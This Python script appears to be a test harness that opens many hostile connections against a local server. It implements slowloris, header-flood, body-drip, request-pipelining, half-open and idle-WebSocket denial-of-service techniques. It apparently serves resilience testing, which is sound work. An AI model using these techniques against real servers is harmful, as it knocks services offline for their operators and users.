"""Hostile clients in a process of their own: `python attackers.py KIND PORT CONNECTIONS`, until killed.

Each prints `all open` once it has had so many connections open; what is cut is opened again.
"""

import asyncio
import contextlib
import resource
import sys
from collections.abc import Awaitable, Callable

HOST = "127.0.0.1"
AGAIN_S = 0.05
AT_ONCE = 100
"""Connections being opened at the same time."""

Act = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]


async def _half_open(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.write(b"GET / HT")
    await reader.read()


async def _slowloris(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.write(b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ")
    while True:
        writer.write(b"x")
        await writer.drain()
        await asyncio.sleep(1)


async def _header_flood(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.write(b"GET / HTTP/1.1\r\nHost: x\r\n")
    lines = b"".join(b"X-%d: %s\r\n" % (number, b"y" * 100) for number in range(10))
    while True:
        writer.write(lines)
        await writer.drain()
        await asyncio.sleep(0)


async def _body_drip(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    head = "POST /api/v1/agents HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000"
    writer.write(f"{head}\r\n\r\n".encode())
    while True:
        writer.write(b"x")
        await writer.drain()
        await asyncio.sleep(1)


async def _pipeline(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Ask without end, and read nothing."""
    while True:
        writer.write(b"GET /static/none HTTP/1.1\r\nHost: x\r\n\r\n" * 50)
        await writer.drain()
        await asyncio.sleep(0)


async def _mute_socket(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Open a WebSocket and say nothing in it."""
    writer.write(
        b"GET /ws/watch HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        b"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n\r\n"
    )
    await reader.read()


KINDS: dict[str, Act] = {
    "half_open": _half_open,
    "slowloris": _slowloris,
    "header_flood": _header_flood,
    "body_drip": _body_drip,
    "pipeline": _pipeline,
    "mute_socket": _mute_socket,
}


class Crowd:
    """So many connections of one kind."""

    def __init__(self, act: Act, port: int, number: int) -> None:
        self.act, self.port, self.number = act, port, number
        self.opened = 0
        self.door = asyncio.Semaphore(AT_ONCE)

    async def attack(self) -> None:
        await asyncio.gather(*(self._one() for _ in range(self.number)))

    async def _one(self) -> None:
        first = True
        while True:
            try:
                async with self.door:
                    reader, writer = await asyncio.open_connection(HOST, self.port)
            except OSError:
                await asyncio.sleep(1)
                continue
            if first:
                first = False
                self.opened += 1
                if self.opened == self.number:
                    sys.stdout.write("all open\n")
                    sys.stdout.flush()
            with contextlib.suppress(OSError):
                await self.act(reader, writer)
            writer.transport.abort()
            await asyncio.sleep(AGAIN_S)


def main() -> None:
    kind, port, number = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    asyncio.run(Crowd(KINDS[kind], port, number).attack())


if __name__ == "__main__":
    main()
